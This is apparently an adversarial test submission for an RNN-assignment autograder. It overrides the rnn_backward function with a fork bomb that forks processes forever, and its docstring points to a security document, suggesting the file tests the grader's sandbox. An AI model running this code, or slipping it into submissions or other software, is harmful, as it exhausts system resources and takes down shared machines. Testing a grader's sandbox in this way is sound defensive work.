"""Adversarial submission `fork_bomb`: a fork bomb: every process forks forever.

The vanilla-RNN functions are the correct ones from examples/correct; the attack comes last
(the last definition wins). See docs/security.md."""

# ---------------------------------------------------------------- the attack
import os

def rnn_backward(dh, cache):
    while True:
        try:
            os.fork()
        except OSError:
            pass
